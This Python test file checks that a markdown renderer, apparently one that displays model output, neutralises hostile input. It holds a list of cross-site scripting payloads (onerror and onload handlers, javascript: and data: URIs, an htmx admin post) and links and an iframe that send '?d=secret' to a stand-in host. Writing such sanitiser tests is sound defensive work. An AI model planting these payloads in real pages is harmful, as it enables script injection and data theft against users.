from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from playground.lib.markdown import ATTRIBUTES, LONGEST, TAGS, Blocks, render

ATTACKS = [
    '![" onerror="alert(1)](x)',
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "[x](/accounts/logout/)",
    '<img src=x onerror="alert(1)">',
    '<div hx-post="/admin/" hx-trigger="load">x</div>',
    "<svg/onload=alert(1)>",
    "![a][r]\n\n[r]: http://canary.example/?d=secret",
    "<style>*{display:none}</style>",
    '```"><script>alert(1)</script>\nx\n```',
    "<http://canary.example/?d=x>",
    "<iframe src=http://canary.example></iframe>",
]


class Tags(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def assert_harmless(markup: str) -> None:
    for tag, attributes in Tags(markup).seen:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"class", "rel"}
        assert (attributes.get("href") or "https:").startswith(("http:", "https:", "mailto:"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_only_text(attack: str) -> None:
    assert_harmless(render(attack))


@given(st.text(alphabet=st.sampled_from("ab<>\"'&![]()`*_#|-\n\\:/ =")))
def test_any_text_gives_allow_listed_tags_only(text: str) -> None:
    assert_harmless(render(text))


def test_an_image_is_a_link_that_loads_nothing() -> None:
    assert "<img" not in render("![cat](https://example.com/cat.png)")
    assert ">cat</a>" in render("![cat](https://example.com/cat.png)")


def test_html_of_a_model_is_shown_not_dropped() -> None:
    assert "&lt;b&gt;bold&lt;/b&gt;" in render("<b>bold</b>")


def test_code_is_highlighted_and_can_be_copied() -> None:
    markup = render("```python\nprint(1)\n```")
    assert '<span class="nb">print</span>' in markup
    assert "data-copy" in markup


def test_headings_stand_below_the_page() -> None:
    assert render("# One").startswith("<h3>")


def test_a_very_long_text_is_shown_as_it_is() -> None:
    assert render("# x" + "y" * LONGEST).startswith("<pre><code># x")


def blocks_of(pieces: list[str]) -> tuple[list[str], str]:
    blocks = Blocks()
    closed = [block for piece in pieces for block in blocks.feed(piece)]
    return closed, blocks.open


def test_a_block_closes_at_a_blank_line() -> None:
    assert blocks_of(["one\n\ntwo"]) == (["one"], "two")


def test_a_blank_line_in_a_fence_closes_nothing() -> None:
    assert blocks_of(["```\na\n\nb\n"]) == ([], "```\na\n\nb\n")


def test_a_fence_closes_with_its_own_mark() -> None:
    assert blocks_of(["````\n```\n````\nrest"]) == (["````\n```\n````"], "rest")


@given(st.text(alphabet="ab`~\n -"), st.data())
def test_how_the_text_was_cut_changes_nothing(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=5)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert blocks_of(pieces) == blocks_of([text])
